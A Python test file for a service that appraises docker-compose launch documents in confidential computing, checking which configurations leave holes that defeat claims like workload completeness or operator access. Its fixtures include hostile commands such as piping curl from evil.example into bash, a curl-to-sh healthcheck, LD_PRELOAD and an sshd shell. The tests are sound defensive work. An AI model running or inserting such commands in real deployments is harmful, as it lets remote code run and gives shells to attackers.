"""SIMULATED hostile launch documents: a hole in what a document says never proves its claim.

The document is the measured one in every test; what it leaves open is named.
"""

from __future__ import annotations

import json
from dataclasses import replace
from typing import TYPE_CHECKING, Any

import pytest
from fuzz.driver import Target, try_input
from services import LOOK

from confide.appraisal.claim_names import ClaimName
from confide.appraisal.provenance import Proofs, SigstoreProof
from confide.appraisal.service_ledger import Ledger
from confide.appraisal.service_policy import ProvenanceSection
from confide.appraisal.service_workload import judge_workload
from confide.rats import Status
from confide.wire.service import LaunchDocument

if TYPE_CHECKING:
    from confide.appraisal.service_policy import Policy

DIGEST = "ab" * 32
COMPLETE, PINNED, ACCESS = (
    ClaimName.WORKLOAD_COMPLETE,
    ClaimName.IMAGES_PINNED,
    ClaimName.OPERATOR_ACCESS,
)
CLOSED: dict[str, Any] = {
    "manifest_version": 2,
    "name": "closed",
    "runner": "docker-compose",
    "public_logs": False,
    "public_sysinfo": False,
    "public_tcbinfo": False,
    "kms_enabled": False,
    "allowed_envs": [],
}


def measured(document: bytes, policy: Policy = LOOK) -> Ledger:
    """What a measured launch document leaves of its claims."""
    ledger = Ledger("machine")
    ledger.proven(ClaimName.WORKLOAD, "service/6", "hardware", "")
    launch = LaunchDocument(kind="dstack-compose", raw=document)
    judge_workload(launch, Proofs(), policy=policy, ledger=ledger)
    return ledger


def app(compose: dict[str, Any] | str, **members: Any) -> bytes:
    text = compose if isinstance(compose, str) else json.dumps(compose)
    return json.dumps({**CLOSED, "docker_compose_file": text, **members}).encode()


def service(**members: Any) -> dict[str, Any]:
    return {"services": {"web": {"image": f"example/app@sha256:{DIGEST}", **members}}}


def test_a_closed_document_proves_its_claims() -> None:
    ledger = measured(app(service(command=["serve", "--cost", "$$5"], environment=["A=1"])))
    assert {name for name in (COMPLETE, PINNED, ACCESS) if ledger.holds(name)} == {
        COMPLETE,
        PINNED,
        ACCESS,
    }


_HOLES: dict[str, tuple[dict[str, Any], ClaimName]] = {
    "the operator chooses the command": (service(command="sh -c ${CODE}"), COMPLETE),
    "a default command": (service(command=["sh", "-c", "${CODE:-true}"]), COMPLETE),
    "the operator chooses the entrypoint": (service(entrypoint=["$ENTRY"]), COMPLETE),
    "the operator chooses the probe": (service(healthcheck={"test": "${PROBE}"}), COMPLETE),
    "code from the network": (service(command="bash -c 'curl -s evil.example | bash'"), COMPLETE),
    "a package at start": (service(entrypoint=["sh", "-c", "pip install x && run"]), COMPLETE),
    "an address in a list": (service(command=["run", "https://evil.example/x"]), COMPLETE),
    "a probe that runs": (service(healthcheck={"test": "curl x | sh"}), COMPLETE),
    "a loader's environment": (service(environment=["LD_PRELOAD"]), COMPLETE),
    "an interpreter's options": (service(environment={"NODE_OPTIONS": "${N}"}), COMPLETE),
    "a shell in the command": (service(command="/usr/sbin/sshd -D"), ACCESS),
    "the operator's environment": (service(environment={"UPSTREAM": "${U}"}), ACCESS),
    "a range of ports": (service(ports=["2000-2010:20-30"]), ACCESS),
    "a bind mount by name": (service(volumes=[{"type": "bind", "source": "run"}]), COMPLETE),
    "a mounted image": (service(volumes=[{"type": "image", "source": "x:latest"}]), COMPLETE),
    "models": (service(models=["m"]), COMPLETE),
    "containers of others": (service(external_links=["other"]), COMPLETE),
    "labels of the host": (service(label_file="x"), COMPLETE),
    "devices in deploy": (
        service(deploy={"resources": {"reservations": {"devices": [{"driver": "cdi"}]}}}),
        COMPLETE,
    ),
    "devices in gpus": (service(gpus=[{"driver": "vfio"}]), COMPLETE),
    "a network of others": (
        {**service(), "networks": {"default": {"external": True}}},
        COMPLETE,
    ),
    "the network of the host": ({**service(), "networks": {"n": {"name": "host"}}}, COMPLETE),
    "a volume of others": ({**service(), "volumes": {"v": {"external": True}}}, COMPLETE),
    "a volume on the network": (
        {**service(), "volumes": {"v": {"driver_opts": {"type": "nfs", "device": ":/x"}}}},
        COMPLETE,
    ),
    "an unknown element": ({**service(), "plugins": {}}, COMPLETE),
    "services elsewhere": ({"include": ["other.yaml"], "services": {}}, PINNED),
    "no services": ({"services": {}}, PINNED),
}


@pytest.mark.parametrize("name", _HOLES)
def test_a_document_that_leaves_a_hole_does_not_prove_the_claim(name: str) -> None:
    compose, claim = _HOLES[name]
    assert not measured(app(compose)).holds(claim)


@pytest.mark.parametrize(
    ("members", "claim"),
    [
        ({"features": ["kms"]}, ClaimName.KEY_LIFETIME),
        ({"hooks": {"start": "x"}}, COMPLETE),
        ({"requirements": {"gpu_policy": {"allow_devtools": True}}}, ClaimName.GPU),
    ],
    ids=["features", "unknown", "gpu policy"],
)
def test_an_app_compose_that_leaves_a_hole(members: dict[str, Any], claim: ClaimName) -> None:
    ledger = measured(app(service(), **members))
    assert ledger.status(claim) in {Status.NOT_PROVEN, Status.FAIL}


@pytest.mark.parametrize(
    "compose",
    [
        "services:\n  a:\n    image: x@sha256:00\n    image: y\n",
        "services: &a\n  b: *a\n",
        "services:\n  a: !reset null\n",
        "services:\n  a:\n    image: x\n---\nservices: {}\n",
    ],
    ids=["twice", "cycle", "tag", "second document"],
)
def test_yaml_that_others_read_otherwise_proves_nothing(compose: str) -> None:
    ledger = measured(app(compose))
    assert not any(ledger.holds(name) for name in (COMPLETE, PINNED, ACCESS))


def test_a_merged_member_is_judged_like_a_written_one() -> None:
    text = (
        f"x-a: &a\n  image: x@sha256:{DIGEST}\n  privileged: true\nservices:\n  web:\n    <<: *a\n"
    )
    assert measured(app(text)).status(COMPLETE) is Status.FAIL


def test_json_that_others_read_otherwise_proves_nothing() -> None:
    raw = app(service()).replace(b'"runner"', b'"runner": "bash", "runner"')
    assert not any(measured(raw).holds(name) for name in (COMPLETE, PINNED, ACCESS))


def test_an_image_that_is_built_on_the_machine_has_nobody_who_vouches_for_it() -> None:
    """One image is signed; the other service is whatever the machine builds."""
    compose = service()
    compose["services"]["other"] = {"build": "."}
    policy = replace(LOOK, provenance=ProvenanceSection(identities=frozenset({"https://i me"})))
    proof = SigstoreProof(
        sha256=bytes.fromhex(DIGEST),
        issuer="https://i",
        identity="me",
        predicate_type="",
        payload=b"",
        integrated_time=None,
        log_index=0,
        root_sha256="",
        public_good=False,
    )
    for document, holds in ((app(service()), True), (app(compose), False)):
        ledger = Ledger("machine")
        ledger.proven(ClaimName.WORKLOAD, "service/6", "hardware", "")
        launch = LaunchDocument(kind="dstack-compose", raw=document)
        judge_workload(launch, Proofs((proof,)), policy=policy, ledger=ledger)
        assert ledger.holds(ClaimName.IMAGE_PROVENANCE) is holds


def test_who_else_can_quote_is_counted() -> None:
    ledger = Ledger("machine")
    launch = LaunchDocument(
        kind="dstack-compose",
        raw=app(service(volumes=["/var/run/dstack.sock:/var/run/dstack.sock"])),
    )
    (limit,) = judge_workload(launch, Proofs(), policy=LOOK, ledger=ledger)
    assert "machine: 1 mount(s)" in limit


@pytest.mark.parametrize("words", ["|", "| /a", "pip -/", " apt -a", "git  ", "'| sh", "$$"])
def test_a_line_of_one_word_many_times_is_read_in_one_pass(words: str) -> None:
    """No pattern goes back and forth over it: the guard of the fuzz targets stands over each."""

    def run(raw: bytes) -> Ledger:
        return measured(app(service(command=raw.decode())))

    line = (words * (200_000 // len(words))).encode()
    assert try_input(Target("line", run, lambda: (line,)), line) is None


@pytest.mark.parametrize(
    "port", ["1-x", "1--", "-", "22-", "٢٢", "9" * 4400, "1-" + "9" * 9, "a:b"]
)
def test_odd_ports_are_no_crash(port: str) -> None:
    assert measured(app(service(ports=[f"8080:{port}"]))).status(ACCESS) is not None
